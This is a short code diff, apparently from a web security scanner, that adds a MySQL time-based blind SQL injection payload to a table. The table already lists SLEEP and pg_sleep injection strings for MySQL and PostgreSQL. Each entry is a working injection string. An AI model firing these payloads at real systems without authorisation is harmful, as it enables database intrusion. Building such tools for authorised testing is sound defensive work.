@@ -15,6 +15,8 @@ const payloads: readonly (readonly [engine: string, of: (text: string, seconds: 
   ['MySQL', (text, s) => `${text} AND (SELECT 1 FROM (SELECT SLEEP(${s}))x)-- -`],
   ['MySQL', (text, s) => `${text}" AND (SELECT 1 FROM (SELECT SLEEP(${s}))x)-- -`],
   ['MySQL', joinedByOr],
+  // what is inserted, or set, is a sum: no row is told by it, since nothing counts as a half
+  ['MySQL', (_, s) => `'+(SELECT 0.5 FROM (SELECT SLEEP(${s}))x)+'`],
   ['PostgreSQL', (text, s) => `${text}'||(SELECT pg_sleep(${s}))||'`],
   ['PostgreSQL', (text, s) => `${text} AND (SELECT 1 FROM pg_sleep(${s}))=1`],
   ['PostgreSQL', (text, s) => `${text}' AND (SELECT 1 FROM pg_sleep(${s}))=1-- -`],
